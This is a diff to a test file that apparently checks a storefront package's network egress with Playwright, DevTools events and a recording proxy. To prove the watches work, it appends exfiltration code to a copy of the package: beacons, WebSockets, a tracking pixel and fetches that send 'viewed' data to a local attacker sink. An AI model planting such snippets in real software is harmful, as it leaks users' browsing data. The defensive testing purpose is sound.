@@ -4,13 +4,13 @@
 // leaving the page. Each must match an exact allow list of origin, path and method.
 //
 // The canary proves the watch can fail: a copy of the package with a beacon, a WebSocket, an image, a cross-origin
-// fetch from the page, a fetch from the ranking worker and one from the vault's frame planted in it. Every one must
-// be caught.
+// fetch from the page, a fetch and a WebSocket from the ranking worker and a fetch from the vault's frame planted in
+// it. Every one must be caught by each watch.
 //
 // Seen through Playwright's request events (page, frames and workers) and, for WebSockets, the Chrome DevTools
 // Protocol's Network.webSocketCreated of each page and of each dedicated worker it starts (attached to as they start,
-// the vault frame's included). A shared worker (data-worker="shared") is no page's, and Playwright reports none of
-// its requests: its pages run in a browser that sends every request through a recording proxy
+// the vault frame's included). A shared worker (the default ranking worker) is no page's, and Playwright reports
+// none of its requests: so every visit also runs in a browser that sends every request through a recording proxy
 // (tests/support/egress_proxy.mjs), which sees each one whatever made it, WebSockets included.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
@@ -20,17 +20,19 @@ import path from 'node:path';
 
 import { startServer } from '../../tools/serve.mjs';
 import { launchBrowser } from '../support/browser.mjs';
-import { startEgressProxy } from '../support/egress_proxy.mjs';
+import { recordAtProxy } from '../support/egress_proxy.mjs';
 import { distDir } from '../support/paths.mjs';
 import { startShop, openPage, vitrineReady, callOnShopperClick } from './storefront_support.mjs';
 
 let sink; // the attacker's server: any request to it is a leak
+let socketSink; // the attacker's server for the worker's WebSocket
 let canaryDir;
 let shops;
 let browser;
 
 before(async () => {
   sink = await startServer({ mounts: {} });
+  socketSink = await startServer({ mounts: {} });
   canaryDir = mkdtempSync(path.join(os.tmpdir(), 'vitrine-canary-'));
   cpSync(distDir, canaryDir, { recursive: true });
   const to = JSON.stringify(sink.url);
@@ -41,16 +43,20 @@ before(async () => {
 try{new WebSocket(s.replace("http","ws")+"socket")}catch{}try{new Image().src=s+"pixel.gif?viewed=p3"}catch{}
 fetch(s+"fetch",{method:"POST",body:"viewed=p3",mode:"no-cors"}).catch(()=>{})},0);`
   );
+  // The worker's leaks say which origin's worker made them (the shop's or the vault's); its WebSocket goes to a sink
+  // of its own, told apart at the proxy by its port (a proxy sees only a socket's host and port).
+  const toSockets = JSON.stringify(socketSink.url);
   appendFileSync(
     path.join(canaryDir, 'worker.mjs'),
-    `;fetch(${to}+"worker",{mode:"no-cors"}).catch(()=>{});
-try{new WebSocket(${to}.replace("http","ws")+"worker-socket")}catch{}`
+    `;fetch(${to}+"worker?from="+encodeURIComponent(location.origin),{mode:"no-cors"}).catch(()=>{});
+try{new WebSocket(${toSockets}.replace("http","ws")+"worker-socket")}catch{}`
   );
   appendFileSync(path.join(canaryDir, 'vault_frame.mjs'), `;fetch(${to}+"vault",{mode:"no-cors"}).catch(()=>{});`);
   shops = {
     real: await startShop({ engine: 'test', csp: null, vault: true }),
     canary: await startShop({ engine: 'test', csp: null, vault: true, packageDir: canaryDir }),
     canarySink: sink.url,
+    canarySocketSink: socketSink.url,
   };
   browser = await launchBrowser();
 });
@@ -59,6 +65,7 @@ after(async () => {
   await browser?.close();
   for (const shop of [shops?.real, shops?.canary]) shop?.close();
   sink?.server.close();
+  socketSink?.server.close();
   if (canaryDir) rmSync(canaryDir, { recursive: true, force: true });
 });
 
@@ -199,7 +206,13 @@ async function visitEverything(shop, openWatched) {
 }
 
 test('the package makes no request but GETs of pages, its files and the model, on every page and action, with no CSP', async () => {
-  const seen = await recordEgress((open) => visitEverything(shops.real, open));
+  // Twice: through Playwright and the DevTools protocol (which tell kinds and sockets apart but see no shared
+  // worker), and at the recording proxy (which sees every request, whatever made it).
+  const watched = await recordEgress((open) => visitEverything(shops.real, open));
+  assert.deepEqual(unexpected(watched, shops.real), []);
+  const seen = await recordAtProxy((context) =>
+    visitEverything(shops.real, async () => (await openPage(context)).page)
+  );
   assert.ok(
     seen.some((r) => r.url === `${shops.real.url}models/test.vtm`),
     'the shop-origin worker fetched the model'
@@ -212,7 +225,8 @@ test('the package makes no request but GETs of pages, its files and the model, o
 });
 
 test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker fetch and WebSocket and vault-frame fetch are each caught', async () => {
-  const seen = await recordEgress(async (open) => {
+  // Both watches of the test above must catch every planted leak. First Playwright's and CDP's.
+  const watched = await recordEgress(async (open) => {
     const page = await open();
     for (const name of ['shop.html', 'vault-shop.html']) {
       await page.goto(shops.canary.url + name);
@@ -221,7 +235,7 @@ test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker
     }
     await page.close();
   });
-  const leaks = unexpected(seen, shops.canary).map((r) => `${r.kind} ${new URL(r.url).pathname}`);
+  const caught = unexpected(watched, shops.canary).map((r) => `${r.kind} ${new URL(r.url).pathname}`);
   for (const planted of [
     'ping /beacon',
     'websocket /socket',
@@ -231,36 +245,40 @@ test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker
     'websocket /worker-socket',
     'fetch /vault',
   ]) {
-    assert.ok(leaks.includes(planted), `${planted} not caught; caught: ${leaks.join(', ')}`);
+    assert.ok(caught.includes(planted), `${planted} not caught; caught: ${caught.join(', ')}`);
   }
   // The ranking worker runs on the shop's page and, with the vault, in the vault's frame: both are watched.
-  assert.equal(leaks.filter((l) => l === 'websocket /worker-socket').length, 2, `caught: ${leaks.join(', ')}`);
-});
+  assert.equal(caught.filter((l) => l === 'websocket /worker-socket').length, 2, `caught: ${caught.join(', ')}`);
 
-// Chromium's own requests (its clock, component updates, sign-in, autofill's form lookups), some made with no page
-// open: the proxy sees them, and they are told apart by exact host and path. No page of the test shop names these
-// hosts.
-const BROWSERS_OWN = [
-  {
-    method: 'CONNECT',
-    url: /^connect:\/\/(?:accounts\.google\.com|(?:update|content-autofill)\.googleapis\.com|clients2\.google\.com):443$/,
-  },
-  { method: 'POST', url: /^http:\/\/update\.googleapis\.com\/service\/update2\/json\?/ },
-  { method: 'GET', url: /^http:\/\/clients2\.google\.com\/time\/1\/current\?/ },
-];
-
-/** Every request that left a browser whose traffic all goes through the recording proxy, while `run` used it. */
-async function recordAtProxy(run) {
-  const proxy = await startEgressProxy();
-  const proxied = await launchBrowser({ proxy: proxy.url });
-  try {
-    await run(proxied.context);
-  } finally {
-    await proxied.close();
-    await proxy.close();
+  // Then the recording proxy's, which also sees a shared worker.
+  const seen = await recordAtProxy(async (context) => {
+    const { page } = await openPage(context);
+    for (const name of ['shop.html', 'vault-shop.html']) {
+      await page.goto(shops.canary.url + name);
+      await vitrineReady(page);
+      await page.evaluate(() => window.vitrine.refresh()); // the worker is running, its planted requests made
+      await page.waitForTimeout(300);
+    }
+    await page.close();
+  });
+  const sink = new URL(shops.canarySink);
+  const socketSink = new URL(shops.canarySocketSink);
+  const leaks = unexpected(seen, shops.canary).map((r) => `${r.method} ${r.url.replace(sink.origin, 'sink')}`);
+  const fromWorker = (url) => `GET sink/worker?from=${encodeURIComponent(new URL(url).origin)}`;
+  for (const planted of [
+    'POST sink/beacon',
+    `CONNECT connect://${sink.host}`, // the page's WebSocket
+    'GET sink/pixel.gif?viewed=p3',
+    'POST sink/fetch',
+    fromWorker(shops.canary.url),
+    fromWorker(shops.canary.vaultUrl),
+    'GET sink/vault',
+  ]) {
+    assert.ok(leaks.includes(planted), `${planted} not caught; caught: ${leaks.join(', ')}`);
   }
-  return proxy.seen.filter((r) => !BROWSERS_OWN.some((own) => own.method === r.method && own.url.test(r.url)));
-}
+  const workerSockets = leaks.filter((l) => l === `CONNECT connect://${socketSink.host}`);
+  assert.ok(workerSockets.length >= 2, `the workers' WebSockets: ${leaks.join(', ')}`);
+});
 
 /** A shopper on two pages that share one ranking worker: views, a cart, a search, export, forget, opt-out. */
 async function visitWithSharedWorker(shop, context) {
@@ -290,26 +308,4 @@ test('with a shared ranking worker, every request leaving the browser (seen at a
   const model = seen.filter((r) => r.url === `${shops.real.url}models/test.vtm`);
   assert.equal(model.length, 1, 'one worker for the pages: the model is fetched once');
   assert.deepEqual(unexpected(seen, shops.real), []);
-});
-
-test('the canary in a shared worker: its planted fetch and WebSocket, and the page\u2019s, are caught at the proxy', async () => {
-  const seen = await recordAtProxy(async (context) => {
-    const { page } = await openPage(context);
-    await page.goto(shops.canary.url + 'shared-shop.html');
-    await vitrineReady(page);
-    await page.evaluate(() => window.vitrine.refresh()); // the worker is running, its planted fetch made
-    await page.waitForTimeout(300);
-    await page.close();
-  });
-  const sink = new URL(shops.canarySink);
-  const leaks = unexpected(seen, shops.canary).map((r) => `${r.method} ${r.url.replace(sink.origin, 'sink')}`);
-  for (const planted of [
-    'GET sink/worker',
-    `CONNECT connect://${sink.host}`, // the worker's WebSocket (and the page's)
-    'POST sink/beacon',
-    'POST sink/fetch',
-    'GET sink/pixel.gif?viewed=p3',
-  ]) {
-    assert.ok(leaks.includes(planted), `${planted} not caught; caught: ${leaks.join(', ')}`);
-  }
 });
